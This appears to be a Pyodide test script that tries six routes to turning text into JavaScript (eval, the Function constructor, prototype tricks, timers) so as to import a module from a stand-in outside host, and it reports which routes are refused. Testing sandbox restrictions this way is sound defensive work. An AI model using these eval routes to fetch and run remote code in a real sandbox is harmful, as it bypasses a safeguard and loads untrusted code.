# Makes JavaScript out of text, whichever way, to import modules of another host.
import js
from pyodide.code import run_js

IMPORT = "import('http://elsewhere.test/module.js')"
for attempt in (
    lambda: run_js(IMPORT),
    lambda: js.eval(IMPORT),
    lambda: js.Function.new(IMPORT)(),
    lambda: js.Reflect.construct(js.Function, [IMPORT])(),
    lambda: js.Object.getPrototypeOf(js.setTimeout).constructor(IMPORT)(),
    lambda: run_js("import('data:text/javascript,1')"),
):
    try:
        attempt()
        print("GOT THROUGH")
    except Exception as error:
        print("refused:", type(error).__name__)
# Refused later, when the time comes; nothing is requested.
js.setTimeout(IMPORT, 0)
js.setInterval(IMPORT, 1)
